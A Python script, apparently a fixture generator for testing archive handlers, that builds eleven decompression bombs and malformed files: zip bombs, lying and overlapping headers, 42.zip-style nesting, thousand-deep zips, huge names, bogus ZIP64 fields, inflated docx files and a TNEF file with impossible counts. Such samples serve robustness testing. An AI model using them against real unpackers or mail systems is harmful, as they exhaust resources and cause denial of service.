"""Zips made to hurt whoever unpacks them.

SPDX-License-Identifier: GPL-3.0-or-later
"""
import io
import struct
import zipfile
import zlib

MB = 1 << 20


def _zip(path, entries, level=9):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in entries:
            z.writestr(name, data)


def _packed(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _entry(name, packed, size, crc, offset, method=8, flags=0):
    """The header before the data, and the line of the table at the end."""
    fixed = struct.pack("<HHHHHIIIHH", 20, flags, method, 0, 0x5421, crc, len(packed), size, len(name), 0)
    return b"PK\3\4" + fixed + name + packed, b"PK\1\2" + struct.pack("<H", 20) + fixed + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name


def _end(count, table, offset):
    return table + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count & 0xFFFF, count & 0xFFFF, len(table), offset, 0)


def honest(path):
    """60 files of 15 MB of zeros: 900 MB in 900 kB, and every header says so."""
    data = bytes(15 * MB)
    packed, crc = _packed(data), zlib.crc32(data)
    body, table = b"", b""
    for i in range(60):
        head, line = _entry(b"bai%d.txt" % i, packed, len(data), crc, len(body))
        body, table = body + head, table + line
    with open(path, "wb") as f:
        f.write(body + _end(60, table, len(body)))


def one_large(path):
    """A single file of 2 GB of zeros in 2 MB."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block, crc = bytes(16 * MB), 0
    packed = (c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)) * 128 + _packed(b"")
    for _ in range(128):
        crc = zlib.crc32(block, crc)
    head, table = _entry(b"bai.txt", packed, 2048 * MB, crc, 0)
    with open(path, "wb") as f:
        f.write(head + _end(1, table, len(head)))


def lying(path):
    """40 files of 100 MB whose headers say 1,000 bytes."""
    data = bytes(100 * MB)
    packed, crc = _packed(data), zlib.crc32(data)
    body, table = b"", b""
    for i in range(40):
        head, line = _entry(b"bai%d.txt" % i, packed, 1000, crc, len(body))
        body, table = body + head, table + line
    with open(path, "wb") as f:
        f.write(body + _end(40, table, len(body)))


def overlapping(path):
    """Ten thousand lines of the table that all mean the same 20 MB of zeros (as in D. Fifield's bombs)."""
    data = bytes(19 * MB)
    head, line = _entry(b"bai.txt", _packed(data), len(data), zlib.crc32(data), 0)
    with open(path, "wb") as f:
        f.write(head + _end(10000, line * 10000, len(head)))


def hundred_thousand(path):
    """10^5 empty files."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:   # more than 65,535: the end of it is ZIP64's
        for i in range(100_000):
            z.writestr(zipfile.ZipInfo(str(i)), b"")


def nested(path):
    """As 42.zip: sixteen zips in each zip, six deep, at the bottom 16 MB of zeros each."""
    data, name = bytes(16 * MB), "0.txt"
    for depth in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            for i in range(1 if depth == 0 else 16):
                z.writestr(f"{i}{name}", data)
        data, name = out.getvalue(), ".zip"
    with open(path, "wb") as f:
        f.write(data)


def deep(path):
    """A zip in a zip, a thousand deep."""
    data, name = b"xin", "bai.txt"
    for _ in range(1000):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
            z.writestr(name, data)
        data, name = out.getvalue(), "a.zip"
    with open(path, "wb") as f:
        f.write(data)


def long_names(path):
    """140 files with names of 65,000 bytes, all of them folders."""
    body, table = b"", b""
    for i in range(140):
        head, line = _entry((b"a/" * 32000 + b"\xE1\xBB\x87" * 300 + b"%d.txt" % i), b"xin", 3, zlib.crc32(b"xin"), len(body), 0)
        body, table = body + head, table + line
    with open(path, "wb") as f:
        f.write(body + _end(140, table, len(body)))


def zip64_nonsense(path):
    """ZIP64 numbers that make no sense: 2^60 entries, a table at 2^62."""
    head, line = _entry(b"bai.txt", b"xin", 3, zlib.crc32(b"xin"), 0, 0)
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 40, 1 << 62)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(head) + len(line), 1)
    with open(path, "wb") as f:
        f.write(head + line + end64 + locator + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))


def documents(path):
    """300 docx, each of 60 MB of XML in 60 kB."""
    inner = io.BytesIO()
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    word = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", types)
        z.writestr("word/document.xml", word + "<w:p></w:p>" * 2 + " " * (60 * MB) + "</w:body></w:document>")
    _zip(path, [(f"bai{i}.docx", inner.getvalue()) for i in range(300)])


def tnef_counts(path):
    """A winmail.dat whose counts claim four milliards of properties and values."""
    def attribute(level, number, data):
        return struct.pack("<BII", level, number, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    many = struct.pack("<IHHI", 0xFFFFFFFF, 0x101E, 0x3707, 0xFFFFFFFF) + bytes(4 * MB)
    with open(path, "wb") as f:
        f.write(struct.pack("<IH", 0x223E9F78, 1))
        for _ in range(3000):
            f.write(attribute(2, 0x00069002, bytes(14)))
        f.write(attribute(2, 0x00069005, many) + attribute(1, 0x00069003, many))


FILES = {"honest.zip": honest, "one-large.zip": one_large, "lying.zip": lying, "overlapping.zip": overlapping, "hundred-thousand.zip": hundred_thousand,
         "nested.zip": nested, "deep.zip": deep, "long-names.zip": long_names, "zip64.zip": zip64_nonsense, "documents.zip": documents, "counts.dat": tnef_counts}
